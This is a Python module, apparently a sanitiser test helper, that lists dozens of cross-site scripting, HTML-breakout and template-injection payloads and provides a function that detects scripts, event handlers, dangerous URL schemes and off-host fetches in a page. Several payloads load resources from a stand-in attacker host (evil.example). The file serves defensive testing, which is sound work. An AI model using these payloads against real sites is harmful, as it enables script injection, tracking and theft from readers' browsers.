"""What somebody might write to make a reader's browser do something, and how to tell that it would."""

from __future__ import annotations

import re

from selectolax.lexbor import LexborHTMLParser

_CORE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.gif)",
    '<img srcset="https://evil.example/a 2x" src=a.svg>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; .notice{display:none}</style>",
    '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">x</p>',
    '<p class="visually-hidden" id="content">x</p>',
    "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "<form action=https://evil.example/><input name=x autofocus onfocus=alert(1)></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<video poster=https://evil.example/x src=https://evil.example/y onloadstart=alert(1)></video>",
    "<audio src=x onerror=alert(1) autoplay></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "</div></main></body></html><h1>x",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)" x="',
    "--><script>alert(1)</script><!--",
    '<!-- <aside class="notice" role="note" data-notice="n" lang="en">x</aside>',
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</script><script>alert(1)</script>",
    "<template><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea>",
    "<select><option>",
    "<plaintext>",
    "<xmp>",
    "<title>",
    "<table><td>",
    "<section>",
    "</section>",
    "<aside>",
    "</aside>",
    '<aside class="notice" role="note" data-notice="undesirable" lang="en">forged</aside>',
    "{{7*7}}",
    "{% raw %}",
    "${7*7}",
    "{x.__class__.__init__.__globals__}",
    "%s%n",
    "#{7*7}",
    "\u202e\u2066gnp.exe",
    "\u0000",
    "\ud800",
    "<\u0000script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
]
_WRAPS = ["{}", "<p>{}</p>", "<blockquote>{}", "before {} after", '<b title="{}">x</b>']

PAYLOADS = [wrap.replace("{}", payload) for payload in _CORE for wrap in _WRAPS]

_RUNS = re.compile(r"^[\s\x00-\x20]*(?:javascript|vbscript|data)\s*:", re.IGNORECASE)
_FETCHING = {
    "src",
    "srcset",
    "poster",
    "data",
    "background",
    "action",
    "formaction",
    "srcdoc",
    "ping",
    "archive",
    "codebase",
}


def dangers(page: str, own: str = "") -> list[str]:
    """What in a page would run, or fetch from another host. `own`: the site's address, which may be named."""
    found: list[str] = []
    for node in LexborHTMLParser(page).css("*"):
        attributes = dict(node.attributes)
        if node.tag == "script" and attributes.get("type") != "application/ld+json":
            found.append("script")
        if node.tag in (
            "iframe",
            "object",
            "embed",
            "base",
            "form",
            "input",
            "button",
            "style",
            "frame",
            "svg",
            "math",
            "template",
        ):
            found.append(node.tag)
        if node.tag == "meta" and "http-equiv" in attributes:
            found.append("meta refresh")
        for name, value in attributes.items():
            text = value or ""
            if name.startswith("on") or name == "style":
                found.append(name)
            if _RUNS.match(text) and name in ("href", "src", "cite", "action", "poster"):
                found.append(f"{name}={text}")
            if name in _FETCHING and re.match(r"\s*(?:[a-z]+:|//|\\\\)", text, re.IGNORECASE):
                found.append(f"{name}={text}")
            if node.tag == "link" and name == "href" and "//" in text and not (own and text.startswith(own)):
                found.append(f"link {text}")
    return found
